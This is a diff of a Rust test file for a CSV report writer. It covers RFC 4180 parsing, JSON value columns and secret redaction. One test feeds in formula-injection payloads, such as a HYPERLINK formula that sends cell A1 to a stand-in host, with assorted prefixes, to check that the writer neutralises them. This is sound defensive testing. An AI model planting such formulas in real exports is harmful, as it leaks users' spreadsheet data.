@@ -1,12 +1,12 @@
 //! Comma-separated values, read back as strictly as RFC 4180 has them.
 
-use roundup::report::{Format, Run, Style};
+use roundup::report::{RunInfo, Style};
 use roundup::{Failure, Kind, Outcome, Phase, Redactor};
 use serde_json::{Value, json};
 
 use super::hostile::NASTY;
 use super::samples::{SECRET, assorted, failed, ok, run};
-use super::written;
+use super::{written, written_of};
 
 /// The rows of a file by the grammar of RFC 4180, section 2; panics where it is broken. Bytes beyond ASCII are text.
 fn rows(csv: &str) -> Vec<Vec<String>> {
@@ -59,7 +59,7 @@ fn cell<'a>(rows: &'a [Vec<String>], row: usize, name: &str) -> &'a str {
 #[test]
 fn one_row_a_result_under_one_row_of_names() {
     let outcomes = assorted();
-    let rows = rows(&written(Format::Csv, &Style::default(), &outcomes));
+    let rows = rows(&written("csv", &Style::default(), &outcomes));
     assert_eq!(rows.len(), outcomes.len() + 1);
     assert!(rows.iter().all(|row| row.len() == rows[0].len()));
     for (index, outcome) in outcomes.iter().enumerate() {
@@ -69,13 +69,15 @@ fn one_row_a_result_under_one_row_of_names() {
         let kind = outcome.error.as_ref().map_or("", |error| error.kind.as_str());
         assert_eq!(cell(&rows, index + 1, "error_kind"), kind);
     }
-    assert_eq!(written(Format::Csv, &Style::default(), &[]).lines().count(), 1, "names without results");
+    assert_eq!(written("csv", &Style::default(), &[]).lines().count(), 1, "names without results");
 }
 
 #[test]
 fn nothing_a_server_sends_is_a_formula_or_another_cell() {
     let mut nasty: Vec<String> = NASTY.iter().map(|text| (*text).to_owned()).collect();
-    for start in ["=", "+", "-", "@", "\t=", "\r=", "\n=", "＝", "=1,\"=2\"\r\n=3,"] {
+    for start in
+        ["=", "+", "-", "@", "\t=", "\r=", "\n=", "＝", "\u{feff}=", "\u{200b}-", " +", ";=", "=1,\"=2\"\r\n=3,"]
+    {
         nasty.push(format!("{start}HYPERLINK(\"http://h/\"&A1,\"x\")"));
     }
     let outcomes: Vec<Outcome> = nasty
@@ -91,13 +93,14 @@ fn nothing_a_server_sends_is_a_formula_or_another_cell() {
             outcome
         })
         .collect();
-    let csv = written(Format::Csv, &Style::default(), &outcomes);
+    let csv = written("csv", &Style::default(), &outcomes);
     let rows = rows(&csv);
     assert_eq!(rows.len(), outcomes.len() + 1);
     for row in &rows {
         assert_eq!(row.len(), rows[0].len());
         for text in row {
-            assert!(!text.starts_with(['=', '+', '-', '@', '\t', '\r', '\n', '＝']), "{text:?}");
+            let begins = text.trim_start_matches(['\u{feff}', '\u{200b}', ' ', ';']);
+            assert!(!begins.starts_with(['=', '+', '-', '@', '\t', '\r', '\n', '＝']), "{text:?}");
             assert!(!text.contains(|c: char| c.is_control() && !matches!(c, '\t' | '\r' | '\n')), "{text:?}");
         }
     }
@@ -114,7 +117,8 @@ fn nothing_a_server_sends_is_a_formula_or_another_cell() {
 fn selected_values_have_columns_of_their_own() {
     let selected = |values: Value| {
         let mut outcome = ok(0, "n", "application/json", b"");
-        outcome.data = values.as_object().cloned();
+        outcome.data =
+            values.as_object().map(|values| values.iter().map(|(name, value)| (name.as_str(), value)).collect());
         outcome
     };
     let outcomes = [
@@ -122,10 +126,10 @@ fn selected_values_have_columns_of_their_own() {
         selected(json!({"more": [1, {"a": "b,c"}], "t": 12345678901234567890u64, "s": true})),
         failed(2, "f", Kind::Dns, None, "x"),
     ];
-    let rows = rows(&written(Format::Csv, &Style::default(), &outcomes));
+    let rows = rows(&written("csv", &Style::default(), &outcomes));
     assert_eq!(rows[0][rows[0].len() - 4..], ["data.n", "data.s", "data.t", "data.more"]);
-    // A number can be added up although it is below zero; text that looks like one cannot.
-    assert_eq!(rows[1][rows[1].len() - 4..], ["", "'-3.5", "-3.5", ""]);
+    // A number can be added up although it is below zero, and so can text that is one.
+    assert_eq!(rows[1][rows[1].len() - 4..], ["", "-3.5", "-3.5", ""]);
     assert_eq!(rows[2][rows[2].len() - 4..], ["", "true", "12345678901234567890", r#"[1,{"a":"b,c"}]"#]);
     assert_eq!(rows[3][rows[3].len() - 4..], ["", "", "", ""]);
 }
@@ -136,11 +140,10 @@ fn secrets_are_hidden_in_numbers_and_names_too() {
     let numbers = Redactor::new([SECRET.to_owned(), "12345678".to_owned()]);
     outcome.data =
         Some([(SECRET.to_owned(), json!(12345678)), ("list".to_owned(), json!([SECRET]))].into_iter().collect());
-    let mut out = Vec::new();
-    let run = Run { redactor: numbers, ..run() };
-    Format::Csv.write(&mut out, &run, &Style::default(), &[outcome]).expect("a Vec takes everything");
-    let rows = rows(std::str::from_utf8(&out).expect("UTF-8"));
-    assert_eq!(cell(&rows, 1, "data.[redacted]"), "\"[redacted]\"");
+    let run = RunInfo { redactor: numbers, ..run() };
+    let rows = rows(&written_of(&run, "csv", &Style::default(), &[outcome]));
+    // What was a number stays one.
+    assert_eq!(cell(&rows, 1, "data.[redacted]"), "0");
     assert_eq!(cell(&rows, 1, "data.list"), r#"["[redacted]"]"#);
     assert_eq!(cell(&rows, 1, "name"), "[redacted]");
 }
